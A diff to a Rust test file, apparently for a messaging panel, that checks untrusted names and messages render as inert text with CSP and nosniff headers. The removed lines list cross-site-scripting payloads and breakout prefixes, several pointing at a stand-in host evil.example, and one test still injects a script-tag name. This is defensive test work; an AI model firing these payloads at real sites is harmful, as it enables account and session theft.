@@ -1,46 +1,10 @@
 //! Texts, names and ids of strangers are text on every page, whatever they look like.
 
-use parom_tests::{Reply, World, once};
+use parom_tests::payloads::{ATTACKS, payloads};
+use parom_tests::{Reply, Visitor, World, once};
 use serde_json::json;
 
-use super::{Visitor, between, ids};
-
-/// How an attack gets out of where it stands.
-const OUT: [&str; 8] = ["", "\">", "'>", "</title>", "</textarea>", "</select>", "-->", "]]>"];
-
-/// What it would do there.
-const ATTACKS: [&str; 25] = [
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.example></SCRIPT>",
-    "<img src=x onerror=alert(1)>",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<iframe src=javascript:alert(1)>",
-    "<object data=javascript:alert(1)>",
-    "<embed src=javascript:alert(1)>",
-    "<a href=\"javascript:alert(1)\">x</a>",
-    "<style>*{display:none}</style>",
-    "<link rel=stylesheet href=//evil.example>",
-    "<base href=//evil.example>",
-    "<meta http-equiv=refresh content=0;url=//evil.example>",
-    "<form action=//evil.example><button>x</button>",
-    "<input autofocus onfocus=alert(1)>",
-    "<details open ontoggle=alert(1)>",
-    "<video><source onerror=alert(1)>",
-    "<math><mglyph><style><img src=x onerror=alert(1)>",
-    "<template><script>alert(1)</script></template>",
-    "<!--<script>alert(1)</script>",
-    " onmouseover=alert(1) x=",
-    "javascript:alert(1)",
-    "{{ 7 * 7 }}${7*7}<%= 7 %>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "\u{202e}evil\u{202c}<b>bold</b>",
-];
-
-/// Two hundred.
-fn payloads() -> impl Iterator<Item = String> {
-    OUT.into_iter().flat_map(|out| ATTACKS.into_iter().map(move |attack| format!("{out}{attack}")))
-}
+use super::{ids, olga};
 
 /// What no page may hold when it comes from outside: markup that our templates never write.
 const NEVER: [&str; 21] = [
@@ -90,7 +54,7 @@ async fn strangers_words_are_text(world: &mut World) {
     world.deliver_all().await;
     let renamed = world.api.patch(&line.path(""), &json!({"name": "\"><script>alert(1)</script>"})).await;
     assert_eq!(renamed.status, 200, "{}", renamed.text);
-    let visitor = Visitor::owner(world, line.tenant_id).await;
+    let visitor = olga(world, line.tenant_id).await;
     let lists = all_pages(&visitor, "/panel/messages").await;
     let messages: Vec<String> = lists.iter().flat_map(ids).collect();
     assert_eq!(messages.len(), 200);
@@ -123,14 +87,14 @@ async fn strangers_words_are_text(world: &mut World) {
             .map(|id| format!("/panel/conversations/{id}")),
     );
     for path in pages {
-        let page = visitor.get(&path).await.is(200);
+        let page = visitor.opens(&path).await.is(200);
         inert(&path, &page.text);
         assert!(page.header("content-security-policy").contains("script-src 'nonce-"), "{path}");
     }
     for id in messages {
-        let page = visitor.posts(&format!("/panel/messages/{id}/text"), &[]).await.is(200);
+        let page = visitor.sends(&format!("/panel/messages/{id}/text"), &[]).await.is(200);
         inert(&id, &page.text);
-        let report = visitor.get(&format!("/panel/messages/{id}/report")).await.is(200);
+        let report = visitor.opens(&format!("/panel/messages/{id}/report")).await.is(200);
         assert!(report.header("content-type").starts_with("text/plain"));
         assert_eq!(report.header("x-content-type-options"), "nosniff");
     }
@@ -138,10 +102,10 @@ async fn strangers_words_are_text(world: &mut World) {
 
 /// A list with everything that is older.
 async fn all_pages(visitor: &Visitor, path: &str) -> Vec<Reply> {
-    let mut pages = vec![visitor.get(path).await.is(200)];
-    while let Some(next) = between(&pages.last().unwrap().text, "rel=\"next\" href=\"", "\"") {
+    let mut pages = vec![visitor.opens(path).await.is(200)];
+    while let Some(next) = pages.last().unwrap().between("rel=\"next\" href=\"", "\"") {
         let next = next.replace("&#38;", "&");
-        pages.push(visitor.get(&next).await.is(200));
+        pages.push(visitor.opens(&next).await.is(200));
     }
     pages
 }
